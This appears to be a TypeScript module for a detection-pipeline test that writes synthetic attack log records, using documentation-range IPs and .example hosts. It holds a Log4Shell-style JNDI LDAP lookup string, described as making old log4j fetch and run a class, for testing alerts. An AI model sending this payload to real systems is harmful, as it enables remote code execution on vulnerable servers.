/**
 * What a test attack of the heartbeat is, and what the records of all formats have in common. Addresses are of the ranges for
 * documentation (RFC 5737), names end in .example (RFC 2606), so nobody is accused.
 */

export type Attack = {
  /** A parser's name. */
  readonly format: string
  readonly title: string
  /** Header lines in force, for formats that have them. */
  readonly header?: readonly string[]
  /** `unique` is eight hexadecimal digits, other ones in each run: the record must not be taken for one that was there before. */
  record(nowMs: number, unique: string): string
}

export const victim = '192.0.2.10'
/** Another one for each record, so that each makes an alert of its own. */
export const attackerOf = (unique: string): string => `203.0.113.${1 + (Number.parseInt(unique.slice(0, 4), 16) % 254)}`
export const hostOf = (unique: string): string => `${unique}.heartbeat.example`
export const numberOf = (unique: string): number => Number.parseInt(unique, 16)
/** The string that makes an old log4j fetch and run a class. */
export const jndi = (unique: string): string => `\${jndi:ldap://${attackerOf(unique)}:1389/${unique}}`

export const json = (value: unknown): string => JSON.stringify(value)
export const iso = (ms: number): string => new Date(ms).toISOString()
/** To the second. */
export const isoSecond = (ms: number): string => iso(ms).replace(/\.\d+Z$/, 'Z')
export const seconds = (ms: number): number => Math.floor(ms / 1000)

const months = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec']

/** `21/Nov/2026:15:04:05 +0000`, as web servers write it. */
export function clf(ms: number): string {
  const [year, month, day, time] = [
    iso(ms).slice(0, 4),
    iso(ms).slice(5, 7),
    iso(ms).slice(8, 10),
    iso(ms).slice(11, 19)
  ]
  return `${day}/${months[Number(month) - 1]}/${year}:${time} +0000`
}

/** `28-May-2025 10:11:12.345`, as named writes it. */
export function namedTime(ms: number): string {
  const text = iso(ms)
  return `${text.slice(8, 10)}-${months[Number(text.slice(5, 7)) - 1]}-${text.slice(0, 4)} ${text.slice(11, 23)}`
}
